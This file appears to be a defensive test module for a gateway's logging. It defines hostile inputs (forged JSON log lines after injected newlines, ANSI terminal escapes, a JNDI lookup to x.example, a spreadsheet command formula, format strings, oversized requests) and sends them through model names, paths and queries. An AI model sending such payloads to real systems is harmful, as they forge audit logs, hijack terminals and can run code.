"""E87: what is meant for the log: lines of its own, terminal codes, more than a line should hold."""

from __future__ import annotations

from dataclasses import replace

from ..said import CHAT, head, packed
from ..vector import Vector, to

_FORGED = '{"time":"2026-01-01T00:00:00Z","event":"decision","outcome":"forwarded","client":"127.0.0.1"}'
_MEAN = {
    "line": "a\n" + _FORGED + "\n",
    "crlf": "a\r\n" + _FORGED,
    "quote": '","outcome":"forwarded","x":"',
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "c1": "\x9b31mred",
    "nul": "a\0b",
    "separators": "a\u2028b\u2029c\x85d",
    "bidi": "\u202etxt.exe",
    "surrogate": "\ud800",
    "backspace": "secret\b\b\b\b\b\b",
    "percent": "%s%n%x{0}${jndi:ldap://x.example/a}",
    "formula": "=cmd|' /C calc'!A1",
}


def _passes(name: str, path: bytes, value: str) -> Vector:
    """One exchange, one line: whatever its names are."""
    made = packed({"model": value, "messages": [{"role": "user", "content": "hello"}]})
    return Vector(f"E87-{name}", "P", to(b"{G}"), (head(path=path) + b"{D}",), made={b"D": lambda _: made}, reach=1)


def _quoted(text: str) -> bytes:
    return b"".join(b"%%%02x" % byte for byte in text.encode("utf-8", "replace"))


_LONG = b"/v1/" + b"a" * 20_000


def _get(name: str, target: bytes) -> Vector:
    ask = b"GET %b HTTP/1.1\r\nHost: {G}\r\nX-Id: {M}\r\n\r\n" % target
    return Vector(f"E87-{name}", "P", to(b"{G}"), (ask,), reach=1)


CONTENT = (
    *(_passes(f"model-{name}", CHAT, text) for name, text in _MEAN.items()),
    *(_get(f"path-{name}", b"/v1/" + _quoted(text)) for name, text in _MEAN.items()),
    *(_get(f"query-{name}", b"/v1/x?q=" + _quoted(text)) for name, text in _MEAN.items()),
    replace(_get("long-path", _LONG), told="cut"),
    replace(_get("long-path-encoded", b"/v1/" + b"%0a" * 6000), told="cut"),
    _get("long-query", b"/v1/x?q=" + b"a" * 20_000),
    # No model is called that: the name is not kept at all.
    _passes("long-model", CHAT, "m" * 20_000),
    _passes("long-model-lines", CHAT, "\n" * 20_000),
    # More than a head may be: refused before it is read, in one line that does not repeat it.
    Vector(
        "E87-megabyte", "D", to(b"{G}"), (b"GET /%b HTTP/1.1\r\nHost: {G}\r\nX-Id: {M}\r\n\r\n" % (b"a" * 1_000_000),)
    ),
    Vector(
        "E87-megabyte-header",
        "D",
        to(b"{G}"),
        (b"GET / HTTP/1.1\r\nHost: {G}\r\nX-Id: {M}\r\nX-A: %b\r\n\r\n" % (b"a" * 1_000_000),),
    ),
    Vector("E87-raw-escape", "D", to(b"{G}"), (b"GET /\x1b[31m HTTP/1.1\r\nHost: {G}\r\nX-Id: {M}\r\n\r\n",)),
    Vector("E87-method", "D", to(b"{G}"), (b"\x1b[31mGET / HTTP/1.1\r\nHost: {G}\r\nX-Id: {M}\r\n\r\n",)),
    Vector("E87-host", "D", to(b"{G}"), (b"GET / HTTP/1.1\r\nHost: {G}\x1b[31m\r\nX-Id: {M}\r\n\r\n",)),
)
